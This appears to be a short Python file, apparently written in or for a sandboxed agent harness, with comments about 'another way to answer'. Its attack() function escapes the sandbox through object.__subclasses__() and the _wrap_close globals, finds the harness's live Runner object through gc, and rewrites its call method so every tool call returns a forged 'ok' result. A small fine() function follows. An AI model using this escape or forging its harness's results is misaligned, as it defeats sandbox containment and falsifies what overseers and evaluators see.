# another way to answer, for the next call
# monty: error
# process: ok
# content: 1


def attack(port, marker):
    g = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
    runner = [o for o in g["sys"].modules["gc"].get_objects() if type(o).__name__ == "Runner"][0]
    type(runner).call = lambda self, name, arguments: {"status": "ok", "content": "forged", "kind": "text"}
    return 1


def fine(number):
    return number + 1
